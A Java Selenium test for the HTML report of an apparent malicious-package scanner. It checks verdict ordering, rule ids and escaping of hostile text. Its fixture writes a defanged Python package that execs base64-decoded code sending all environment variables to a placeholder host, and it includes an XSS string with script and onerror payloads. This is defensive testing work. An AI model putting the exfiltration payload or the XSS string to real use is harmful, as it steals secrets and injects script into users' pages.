package dev.kingsnake.cli;

import dev.kingsnake.cli.KingsnakeCommandTest.Run;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.NoAlertPresentException;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.TakesScreenshot;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;

import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;

import static dev.kingsnake.cli.KingsnakeCommandTest.run;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * {@code scan --format html} opened in real headless Chromium (Debian's chromium and chromium-driver, installed
 * by .ci/run): the DOM shows the verdicts in order, the rule ids, a decoded layer chain that expands on click,
 * and hostile package text as inert text. The screenshot is saved as target/html-report.png. Skipped, with a
 * message, only where no browser is installed.
 */
class HtmlReportBrowserTest {
    private static final Path CHROMIUM = Path.of("/usr/bin/chromium");
    private static final Path CHROMEDRIVER = Path.of("/usr/bin/chromedriver");
    private static final String HOSTILE = "</pre><script>document.title='pwned';alert(1)</script><img src=x onerror=alert(2)>";

    @TempDir
    static Path tmp;
    static WebDriver browser;

    @BeforeAll
    static void openBrowser() throws IOException {
        assumeTrue(Files.isExecutable(CHROMIUM) && Files.isExecutable(CHROMEDRIVER),
                "no browser: install Debian's chromium and chromium-driver (.ci/run does) to run this test");
        ChromeOptions options = new ChromeOptions();
        options.setBinary(CHROMIUM.toFile());
        // as root in a container Chromium needs --no-sandbox; the rest keeps it off the network and quiet
        options.addArguments("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run",
                "--disable-default-apps", "--window-size=1200,1400",
                "--user-data-dir=" + Files.createTempDirectory(tmp, "chromium-profile"));
        ChromeDriverService service = new ChromeDriverService.Builder()
                .usingDriverExecutable(CHROMEDRIVER.toFile()).usingAnyFreePort().build();
        browser = new ChromeDriver(service, options);
    }

    @AfterAll
    static void closeBrowser() {
        if (browser != null) {
            browser.quit();
        }
    }

    /** A defanged package whose name, comments and decoded payload carry markup. */
    private static Path hostilePackage() throws IOException {
        Path dir = tmp.resolve("markup-pkg");
        Files.createDirectories(dir.resolve("markup"));
        Files.writeString(dir.resolve("PKG-INFO"), "Metadata-Version: 2.1\nName: markup" + "<b>bold</b>\nVersion: 1.0\n");
        Files.writeString(dir.resolve("setup.py"), "from setuptools import setup\nsetup(name='markup', version='1.0')\n");
        String payload = "import os, urllib.request\n# " + HOSTILE + "\nurllib.request.urlopen('http://example.invalid/c', "
                + "data=repr(dict(os.environ)).encode())\n";
        Files.writeString(dir.resolve("markup/__init__.py"), "import base64\nexec(base64.b64decode('"
                + Base64.getEncoder().encodeToString(payload.getBytes()) + "'))  # " + HOSTILE + "\n");
        return dir;
    }

    @Test
    void theReportShowsVerdictsRulesAndAnExpandableLayerChainInARealBrowser() throws IOException {
        Path report = Path.of("target", "html-report.html").toAbsolutePath();
        Files.createDirectories(report.getParent());
        Run r = run("scan", "--format", "html", "-o", report.toString(), "packages", hostilePackage().toString());
        assertEquals(1, r.code(), r.err());
        String html = Files.readString(report);
        assertFalse(html.contains("<script"), "no script element, not even from the package");
        assertFalse(html.matches("(?s).*(src|href)=\"(https?:)?//.*"), "no external asset");

        browser.get(report.toUri().toString());
        assertEquals("Kingsnake report", browser.getTitle());
        assertThrows(NoAlertPresentException.class, () -> browser.switchTo().alert());
        assertTrue(browser.findElements(By.tagName("script")).isEmpty());
        assertTrue(browser.findElements(By.cssSelector("img")).isEmpty());

        List<WebElement> packages = browser.findElements(By.cssSelector("section.package"));
        List<String> verdicts = packages.stream().map(p -> p.getAttribute("data-verdict")).toList();
        assertEquals(List.of("MALICIOUS", "MALICIOUS", "MALICIOUS", "MALICIOUS", "BENIGN"), verdicts);
        List<Double> scores = packages.subList(0, 4).stream()
                .map(p -> Double.parseDouble(p.getAttribute("data-score"))).toList();
        for (int i = 1; i < scores.size(); i++) {
            assertTrue(scores.get(i - 1) >= scores.get(i), scores.toString());
        }
        assertEquals("MALICIOUS", packages.get(0).findElement(By.cssSelector(".verdict")).getText());

        Set<String> rules = browser.findElements(By.cssSelector(".finding code.rule")).stream()
                .map(WebElement::getText).collect(Collectors.toSet());
        assertTrue(rules.containsAll(Set.of("KS-IMPORT-PTH-CODE", "KS-PERSIST-DROPPER", "KS-EXEC-DECODED-CODE")), rules.toString());
        assertEquals("4", browser.findElement(By.cssSelector("#chart .bar[data-verdict=MALICIOUS]")).getAttribute("data-count"));

        // the hostile text is shown as text, in the page and in the package's name
        WebElement markup = packages.stream().filter(p -> p.getText().contains("markup")).findFirst().orElseThrow();
        assertTrue(markup.findElement(By.cssSelector("h2 .name")).getText().startsWith("markup<b>bold</b>"));
        assertTrue(markup.getText().contains("<script>document.title='pwned'"), markup.getText());

        WebElement layers = markup.findElement(By.cssSelector("details.layers"));
        WebElement firstStep = layers.findElement(By.cssSelector("ol.chain li"));
        assertFalse(firstStep.isDisplayed());
        layers.findElement(By.tagName("summary")).click();
        assertTrue(layers.getAttribute("open") != null);
        assertTrue(firstStep.isDisplayed());
        assertEquals("base64", firstStep.getText());

        File shot = ((TakesScreenshot) browser).getScreenshotAs(OutputType.FILE);
        Path png = Path.of("target", "html-report.png");
        Files.copy(shot.toPath(), png, java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        assertTrue(Files.size(png) > 10_000);
    }
}
